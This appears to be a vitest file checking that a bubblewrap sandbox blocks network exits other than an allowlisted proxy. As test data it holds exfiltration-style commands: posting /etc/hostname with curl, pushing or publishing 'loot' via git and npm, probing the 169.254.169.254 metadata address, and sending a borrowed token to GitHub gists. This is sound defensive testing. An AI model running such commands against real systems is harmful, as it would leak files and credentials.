/** A sandbox with network, from inside: what is allowed is reached through the proxy, and there is no other way out. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { describe, expect, onTestFinished, test } from 'vitest';
import { createCommands } from '../../../../src/adapters/bubblewrap/sandboxed-commands.ts';
import type { PackageClients } from '../../../../src/adapters/bubblewrap/egress/package-clients.ts';
import { systemClock } from '../../../../src/adapters/system/system-clock.ts';
import { parseSandboxHosts } from '../../../../src/domain/sandbox/sandbox-hosts.ts';
import type { CommandResult } from '../../../../src/ports/commands.ts';
import { listen } from '../../../helpers/listen.ts';
import { noBwrap } from '../../../helpers/no-bwrap.ts';
import { temporaryFolder } from '../../../hosts/cli/temporary-folder.ts';
import { verifies } from '../../../verifies.ts';
import { answering } from './a-proxy.ts';

const NO_CLIENTS: PackageClients = { npm: {}, pip: [], go: {}, maven: [] };

function run(
  script: string,
  {
    hosts = '',
    clients = NO_CLIENTS,
    sandbox = 'on',
    env = {},
  }: {
    hosts?: string;
    clients?: PackageClients;
    sandbox?: 'on' | 'off';
    env?: Record<string, string>;
  } = {},
): Promise<CommandResult> {
  const egress = { allowed: parseSandboxHosts(hosts), clients: async () => clients, proxies: {} };
  const wanted = { folder: temporaryFolder(), readable: [], env, timeoutMs: 120_000 };
  return createCommands({ sandbox, clock: systemClock, egress }).run(
    { ...wanted, script, network: true },
    new AbortController().signal,
  );
}

/** Each connects to a port of this machine. */
const WAYS_OUT = {
  curl: 'curl -s -m 5 -d @/etc/hostname "http://127.0.0.1:$PORT"',
  'a name service': `node -e '
    const socket = require("node:dgram").createSocket("udp4");
    socket.on("error", () => socket.close());
    socket.send("name", Number(process.env.NAMES), "127.0.0.1", () => socket.close())'`,
  'a git remote':
    'git init -q .; git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x; git push "http://127.0.0.1:$PORT/loot" HEAD',
  'a git remote of another protocol': 'git ls-remote "git://127.0.0.1:$PORT/loot"',
  npm: `echo '{"name":"loot","version":"1.0.0"}' > package.json
    npm publish --fetch-retries 0 --registry "http://127.0.0.1:$PORT" "--//127.0.0.1:$PORT/:_authToken=x"`,
  'a WebSocket': `node -e 'new WebSocket("ws://127.0.0.1:" + process.env.PORT).onerror = () => {}'`,
};

/** A port for datagrams, which are all counted. */
async function listenForNames(): Promise<{ port: number; reached: () => number }> {
  let count = 0;
  const socket = createSocket('udp4', () => (count += 1));
  socket.bind(0, '127.0.0.1');
  await once(socket, 'listening');
  onTestFinished(() => void socket.close());
  return { port: socket.address().port, reached: () => count };
}

/** A program that uses no proxy. */
function connecting(where: string): string {
  return `node -e '
    const s = require("node:net").connect(${where});
    s.setTimeout(5000, () => { console.log("no answer"); s.destroy(); });
    s.on("data", (d) => { console.log(String(d)); s.destroy(); });
    s.on("error", (e) => console.log("failed", e.code));'`;
}

describe.skipIf(noBwrap !== undefined)(
  'in a sandbox with network (skipped without bubblewrap)',
  () => {
    test('an allowed host is reached by programs that use the proxy: Node and curl, plain and by tunnel', async () => {
      const { port, seen } = await answering();
      const url = `http://127.0.0.1:${port}`;
      // By the proxy although it is on loopback: nothing is left out.
      const script = `curl -sS --noproxy "" ${url}/plain; curl -sS --noproxy "" -p ${url}/tunnel
      NO_PROXY= no_proxy= node -e 'fetch("${url}/node").then((r) => r.text()).then(console.log)'`;
      const { output } = await run(script, { hosts: `127.0.0.1:${port}` });
      expect(output.match(/reached/g)).toHaveLength(3);
      expect(seen.map((each) => each.url)).toEqual(['/plain', '/tunnel', '/node']);
    });

    test('a registry on the machine’s loopback keeps its address, and its port alone is open', async () => {
      const [own, other] = [await answering(), await answering()];
      const script = `curl -sS http://127.0.0.1:${own.port}; curl -sS http://localhost:${own.port}
      curl -sS http://127.0.0.1:${other.port}`;
      const { output } = await run(script, { hosts: `127.0.0.1:${own.port}` });
      expect(output).toMatch(/^reachedreachedcurl: \(7\)/);
      expect(other.seen).toEqual([]);
    });

    verifies(
      'EXE-02: services of this machine',
      'services of the machine are out of reach',
      async () => {
        const { port, reached } = await listen();
        const script = `${connecting(`${port}, "127.0.0.1"`)}; ${connecting(`${port}, "::1"`)}
      curl -sS --noproxy "" -p http://127.0.0.1:${port}`;
        const { output } = await run(script);
        expect(output).toMatch(/^failed E\w+\nfailed E\w+\ncurl: .*403/);
        expect(reached()).toBe(0);
      },
    );

    verifies(
      'EXE-02: raw address',
      'link-local metadata is refused, even by a list that names it',
      async () => {
        const script = `${connecting('80, "169.254.169.254"')}; curl -sS http://169.254.169.254/`;
        const { output } = await run(script, { hosts: '169.254.169.254:80' });
        expect(output).toMatch(/failed E(?:NETUNREACH|HOSTUNREACH)\nThe sandbox refuses/);
        expect(output).toContain('No setting allows them.');
      },
    );

    verifies(
      'EXE-02: services of this machine',
      'an abstract socket of the machine is out of reach',
      async () => {
        const name = `quorum-test-${process.pid}`;
        let reached = 0;
        const server = createServer((socket) => {
          reached += 1;
          socket.end('reached');
        });
        server.listen({ path: `\0${name}` });
        onTestFinished(() => void server.close());
        const { output } = await run(connecting(`{ path: "\\0${name}" }`));
        expect(output).toMatch(/failed ECONNREFUSED/);
        expect(reached).toBe(0);
      },
    );

    verifies(
      ['EXE-02: names', 'EXE-02: raw address'],
      'a program that ignores the proxy finds no network and no names',
      async () => {
        const script = `env -i PATH="$PATH" ${connecting('443, "203.0.113.1"')}
      env -i PATH="$PATH" ${connecting('443, "registry.example"')}
      cat /etc/resolv.conf; ls /sys/class/net 2>/dev/null; cat /proc/net/dev | tail -n +3 | cut -d: -f1`;
        const { output } = await run(script, { hosts: 'registry.example, 203.0.113.1' });
        expect(output).toMatch(/^failed ENETUNREACH\nfailed E\w+\ncat: .*No such file/);
        expect(output.trim().split('\n').at(-1)?.trim()).toBe('lo');
      },
    );

    verifies(
      'EXE-02: report of what was refused',
      'what was refused is named together with the setting',
      async () => {
        const { output } = await run(
          'curl -sS https://evil.example; git ls-remote https://more.example/x',
        );
        expect(output).toContain('refused connections to `evil.example:443`, `more.example:443`');
        expect(output).toContain('add evil.example:443,more.example:443 to QUORUM_SANDBOX_HOSTS');
      },
    );

    verifies(
      [
        'EXE-02: curl',
        'EXE-02: names',
        'EXE-02: foreign git remote',
        'EXE-02: npm publish',
        'EXE-02: WebSocket',
      ],
      'each way out that reaches a host without the sandbox reaches nobody with it',
      async () => {
        for (const [way, script] of Object.entries(WAYS_OUT)) {
          const { port, reached } = await listen();
          const asked = await listenForNames();
          const env = { PORT: String(port), NAMES: String(asked.port) };
          await run(script, { hosts: 'registry.example', env });
          expect([way, reached() + asked.reached()]).toEqual([way, 0]);
          await run(script, { sandbox: 'off', env });
          expect([way, reached() + asked.reached() > 0]).toEqual([way, true]);
        }
      },
    );

    verifies(
      ['EXE-02: gist', 'EXE-02: GitHub with the token of another'],
      'GitHub is refused whatever token comes along, before a byte of it is read',
      async () => {
        const token = '-H "Authorization: Bearer theirs"';
        const { output } = await run(
          `curl -sS ${token} https://api.github.com/user
          curl -sS ${token} -d '{"files":{}}' https://api.github.com/gists
          git -c http.extraHeader="Authorization: Bearer theirs" push https://github.com/eve/loot HEAD`,
          { hosts: 'registry.example' },
        );
        expect(output.match(/curl: \(56\) .*403/g)).toHaveLength(2);
        expect(output).toContain('refused connections to `api.github.com:443`');
      },
    );

    test('package clients get the registries of the machine', async () => {
      const clients = {
        npm: { registry: 'http://npm.example/', '@team:registry': 'http://team.example/' },
        pip: ['http://pip.example/simple', 'http://more.example/simple'],
        go: { GOPROXY: 'http://go.example' },
        maven: [],
      };
      const script = `npm config get registry; npm config get @team:registry
      go env GOPROXY; echo $PIP_INDEX_URL $PIP_EXTRA_INDEX_URL`;
      const { output } = await run(script, { clients });
      expect(output).toContain('http://npm.example/\nhttp://team.example/\n');
      expect(output).toContain('http://pip.example/simple http://more.example/simple\n');
    });

    test('the program’s own exit code counts', async () => {
      expect(await run('exit 7')).toMatchObject({ exitCode: 7 });
    });

    test('without a list nothing is reached', async () => {
      const commands = createCommands({ sandbox: 'on', clock: systemClock });
      const wanted = { folder: temporaryFolder(), readable: [], env: {}, timeoutMs: 120_000 };
      const script = 'curl -sS https://registry.example';
      const { output } = await commands.run(
        { ...wanted, script, network: true },
        new AbortController().signal,
      );
      expect(output).toContain('403');
    });
  },
);
